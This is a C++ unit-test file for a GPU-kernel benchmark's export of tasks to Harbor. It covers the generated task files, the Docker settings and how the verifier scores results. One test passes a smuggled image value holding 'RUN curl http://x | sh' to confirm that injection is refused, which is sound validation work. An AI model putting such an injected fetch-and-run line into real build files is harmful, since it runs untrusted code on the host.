// The Harbor task folder of a task: its files, the instruction carrying the prompt, the
// verifier naming the task and arch, and solve.sh only when a solution is shipped.
#include "ptxbench/harbor/harbor_task.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <iterator>
#include <map>
#include <optional>
#include <set>
#include <sstream>

#include "ptxbench/config.hpp"
#include "ptxbench/prompt/prompt.hpp"
#include "ptxbench/task/task_loader.hpp"
#include "ptxbench/util/fs.hpp"
#include "ptxbench/util/process.hpp"

namespace ptxbench::harbor {
namespace {

const task::Task& gemm() {
  static const auto suite = task::load_suite(task::default_tasks_dir());
  return *task::find_task(*suite, "gemm_n7168_k5120");
}

TEST(HarborTask, HoldsInstructionStubVerifierAndConfig) {
  auto files = render_harbor_task(gemm(), {.context = prompt::ContextLevel::kIsa,
                                           .context_dir = prompt::default_context_dir()});
  ASSERT_TRUE(files.has_value()) << files.error().message;
  for (const char* path : {"task.toml", "instruction.md", "environment/Dockerfile",
                           "environment/workspace/kernel.cu", "tests/test.sh"})
    EXPECT_TRUE(files->contains(path)) << path;
  EXPECT_FALSE(files->contains("solution/solve.sh"));
  auto prompt = prompt::build_prompt(gemm(), arch::Arch::kHopper, prompt::ContextLevel::kIsa,
                                     prompt::default_context_dir());
  EXPECT_NE(files->at("instruction.md").content.find(prompt->task), std::string::npos);
  const auto& test = files->at("tests/test.sh");
  EXPECT_TRUE(test.executable);
  EXPECT_NE(test.content.find("--task 'gemm_n7168_k5120' --arch 'hopper' --json"),
            std::string::npos);
  EXPECT_NE(files->at("task.toml").content.find("ptxbench_context = \"isa\""), std::string::npos);
  EXPECT_NE(files->at("environment/workspace/kernel.cu").content.find("#error"), std::string::npos);
  EXPECT_EQ(harbor_task_name(gemm(), arch::Arch::kBlackwell), "gemm_n7168_k5120-blackwell");
}

TEST(HarborTask, AShippedSolutionGetsSolveSh) {
  auto files = render_harbor_task(
      gemm(), {.context_dir = prompt::default_context_dir(), .solution = "// the solution"});
  ASSERT_TRUE(files.has_value());
  EXPECT_EQ(files->at("solution/kernel.cu").content, "// the solution");
  EXPECT_TRUE(files->at("solution/solve.sh").executable);
}

std::map<std::string, HarborFile> render(arch::Arch arch,
                                         const std::string& image = kDefaultImage) {
  auto files = render_harbor_task(
      gemm(), {.arch = arch, .context_dir = prompt::default_context_dir(), .base_image = image});
  EXPECT_TRUE(files.has_value()) << files.error().message;
  return files ? *files : std::map<std::string, HarborFile>{};
}

// Harbor's current schema: memory_mb (not the deprecated memory), GPU types of the arch, the
// agent as an unprivileged user and the verifier as root.
TEST(HarborTask, TaskTomlFollowsHarborsSchema) {
  const auto hopper = render(arch::Arch::kHopper).at("task.toml").content;
  EXPECT_NE(hopper.find("\nmemory_mb = 32768\n"), std::string::npos) << hopper;
  EXPECT_NE(hopper.find("\nstorage_mb = "), std::string::npos);
  EXPECT_EQ(hopper.find("\nmemory ="), std::string::npos);
  EXPECT_NE(hopper.find("\ngpus = 1\ngpu_types = [\"H100\", \"H200\"]\n"), std::string::npos);
  EXPECT_NE(hopper.find("[verifier]\n"), std::string::npos);
  EXPECT_NE(hopper.find("user = \"root\"\n\n[agent]\ntimeout_sec = 3600.0\nuser = \"agent\"\n"),
            std::string::npos)
      << hopper;
  const auto blackwell = render(arch::Arch::kBlackwell).at("task.toml").content;
  EXPECT_NE(blackwell.find("gpu_types = [\"B200\", \"B300\"]\n"), std::string::npos);
}

TEST(HarborTask, TheEnvironmentSaysHowToBuildItsImage) {
  const auto dockerfile = render(arch::Arch::kHopper).at("environment/Dockerfile").content;
  EXPECT_NE(dockerfile.find("docker build -f docker/Dockerfile -t ptxbench:latest ."),
            std::string::npos);
  EXPECT_NE(dockerfile.find("\nARG PTXBENCH_IMAGE=ptxbench:latest\nFROM ${PTXBENCH_IMAGE}\n"),
            std::string::npos);
  EXPECT_NE(dockerfile.find("\nRUN chown -R agent:agent /workspace\n"), std::string::npos);
  const auto other =
      render(arch::Arch::kHopper, "registry.example.com:5000/team/ptxbench:1.0@sha256:ab");
  EXPECT_NE(other.at("environment/Dockerfile")
                .content.find(
                    "ARG PTXBENCH_IMAGE=registry.example.com:5000/team/ptxbench:1.0@sha256:ab\n"),
            std::string::npos);
}

TEST(HarborTask, AnImageThatIsNoImageReferenceIsRefused) {
  for (const std::string image :
       {"ptxbench:latest\nRUN curl http://x | sh", "ptx bench", "-ptxbench", "", "a\"b"}) {
    auto files = render_harbor_task(
        gemm(), {.context_dir = prompt::default_context_dir(), .base_image = image});
    ASSERT_FALSE(files.has_value()) << image;
    EXPECT_NE(files.error().message.find("not an image reference"), std::string::npos);
  }
}

// The verifier, run with a stand-in for ptxbench that answers a given record.
struct VerifierRun {
  int exit_code = -1;
  std::string stderr_text;
  std::optional<std::string> reward;
  std::string result;
};

VerifierRun run_verifier(const std::string& record) {
  util::TempDir dir;
  const auto files = render(arch::Arch::kHopper);
  util::write_file_atomic(dir.path() / "test.sh", files.at("tests/test.sh").content);
  util::write_file_atomic(dir.path() / "fake-ptxbench",
                          "#!/bin/sh\ncat <<'JSON'\n" + record + "\nJSON\n");
  std::filesystem::permissions(dir.path() / "fake-ptxbench", std::filesystem::perms::owner_exec,
                               std::filesystem::perm_options::add);
  std::filesystem::create_directories(dir.path() / "workspace");
  util::write_file_atomic(dir.path() / "workspace" / "kernel.cu", "// kernel");
  util::SystemProcessRunner runner;
  auto result =
      runner.run({.argv = {"env", "PTXBENCH_WORKSPACE=" + (dir.path() / "workspace").string(),
                           "PTXBENCH_VERIFIER_LOGS=" + (dir.path() / "logs").string(),
                           "PTXBENCH_EXE=" + (dir.path() / "fake-ptxbench").string(), "bash",
                           (dir.path() / "test.sh").string()},
                  .timeout = std::chrono::seconds(60)});
  VerifierRun run{.exit_code = result.exit_code, .stderr_text = result.stderr_text};
  if (auto reward = util::read_file(dir.path() / "logs" / "reward.txt")) run.reward = *reward;
  if (auto text = util::read_file(dir.path() / "logs" / "result.json")) run.result = *text;
  return run;
}

TEST(HarborVerifier, WithoutAGpuItFailsLoudlyAndWritesNoReward) {
  auto run = run_verifier(R"({"verdict": "NOT_RUN", "message": "no CUDA device"})");
  EXPECT_EQ(run.exit_code, 2) << run.stderr_text;
  EXPECT_FALSE(run.reward.has_value()) << *run.reward;
  EXPECT_NE(run.stderr_text.find("NOT JUDGED: the GPU stages did not run"), std::string::npos)
      << run.stderr_text;
  EXPECT_NE(run.result.find("\"error\""), std::string::npos);
  auto internal = run_verifier(R"({"verdict": "INTERNAL_ERROR", "message": "worker lost"})");
  EXPECT_EQ(internal.exit_code, 2);
  EXPECT_FALSE(internal.reward.has_value());
  auto nothing = run_verifier("not json");
  EXPECT_EQ(nothing.exit_code, 2);
  EXPECT_FALSE(nothing.reward.has_value());
}

TEST(HarborVerifier, JudgedVerdictsScore) {
  auto passed = run_verifier(R"({"verdict": "PASSED", "workloads": [], "families": []})");
  EXPECT_EQ(passed.exit_code, 0) << passed.stderr_text;
  EXPECT_EQ(passed.reward, "1\n");
  auto wrong = run_verifier(R"({"verdict": "INCORRECT_NUMERICAL"})");
  EXPECT_EQ(wrong.exit_code, 1) << wrong.stderr_text;
  EXPECT_EQ(wrong.reward, "0\n");
}

// The shipped docker/Dockerfile, read as Docker reads it: instructions joined over line
// continuations, comments dropped. No container engine is needed to check what it refers to;
// whether it builds is harbor_dockerfile_builds (dockerfile_build_test.sh), where a builder is.
struct Instruction {
  std::string keyword;
  std::string arguments;
};

std::vector<Instruction> parse_dockerfile(const std::string& text) {
  std::vector<Instruction> out;
  std::istringstream lines(text);
  std::string line, pending;
  while (std::getline(lines, line)) {
    const auto first = line.find_first_not_of(" \t");
    if (first == std::string::npos || line[first] == '#') continue;
    const bool continued = !line.empty() && line.back() == '\\';
    pending += continued ? line.substr(0, line.size() - 1) + " " : line;
    if (continued) continue;
    std::istringstream words(pending);
    Instruction instruction;
    words >> instruction.keyword;
    std::getline(words, instruction.arguments);
    out.push_back(instruction);
    pending.clear();
  }
  EXPECT_TRUE(pending.empty()) << "a continuation at the end of the file";
  return out;
}

TEST(HarborImage, TheShippedDockerfileRefersToTheTreeAndTheAgentUser) {
  const std::filesystem::path source(config::kSourceDir);
  auto text = util::read_file(source / "docker" / "Dockerfile");
  ASSERT_TRUE(text.has_value()) << text.error().message;
  const auto instructions = parse_dockerfile(*text);
  ASSERT_FALSE(instructions.empty());
  const std::set<std::string> known{"FROM", "ARG",   "ENV",   "RUN", "COPY",      "WORKDIR",
                                    "USER", "LABEL", "SHELL", "CMD", "ENTRYPOINT"};
  std::string run_text, env_text;
  bool from_seen = false;
  for (const auto& instruction : instructions) {
    EXPECT_TRUE(known.contains(instruction.keyword)) << instruction.keyword;
    if (!from_seen) {
      EXPECT_TRUE(instruction.keyword == "ARG" || instruction.keyword == "FROM")
          << "only ARG may come before FROM: " << instruction.keyword;
      from_seen = instruction.keyword == "FROM";
    }
    if (instruction.keyword == "COPY") {
      std::istringstream words(instruction.arguments);
      std::vector<std::string> args{std::istream_iterator<std::string>(words), {}};
      ASSERT_GE(args.size(), 2u);
      for (std::size_t i = 0; i + 1 < args.size(); ++i) {
        if (args[i].starts_with("--")) continue;
        EXPECT_TRUE(std::filesystem::exists(source / args[i])) << "COPY source " << args[i];
      }
    }
    if (instruction.keyword == "RUN") run_text += instruction.arguments + "\n";
    if (instruction.keyword == "ENV") env_text += instruction.arguments + "\n";
  }
  EXPECT_TRUE(from_seen);
  // What RUN calls from the tree exists, and builds the CLI and the worker.
  for (std::size_t at = run_text.find("scripts/"); at != std::string::npos;
       at = run_text.find("scripts/", at + 1)) {
    const auto end = run_text.find_first_of(" \n", at);
    EXPECT_TRUE(std::filesystem::exists(source / run_text.substr(at, end - at)))
        << run_text.substr(at, end - at);
  }
  EXPECT_NE(run_text.find("scripts/build.sh ptxbench ptxbench-worker"), std::string::npos);
  EXPECT_NE(run_text.find(std::string("useradd --create-home --shell /bin/bash ") + kAgentUser),
            std::string::npos);
  EXPECT_NE(run_text.find("cuda-keyring"), std::string::npos);
  // The CLI the build makes is on PATH (scripts/build.sh writes build/src/ptxbench).
  EXPECT_TRUE(std::filesystem::exists(source / "src" / "tools" / "ptxbench_main.cpp"));
  EXPECT_NE(env_text.find("PATH=/opt/ptxbench/build/src:"), std::string::npos);
  EXPECT_NE(env_text.find("PTXBENCH_HOME=/opt/ptxbench"), std::string::npos);
  // The comment's build command is the one the exported tasks print.
  EXPECT_NE(text->find(image_build_command(kDefaultImage)), std::string::npos);
  // The build context leaves out the host's build and dependency folders.
  auto ignore = util::read_file(source / ".dockerignore");
  ASSERT_TRUE(ignore.has_value());
  for (const char* folder : {"\nbuild\n", "\n.deps\n", "\n.git\n"})
    EXPECT_NE(("\n" + *ignore).find(folder), std::string::npos) << folder;
}

}  // namespace
}  // namespace ptxbench::harbor
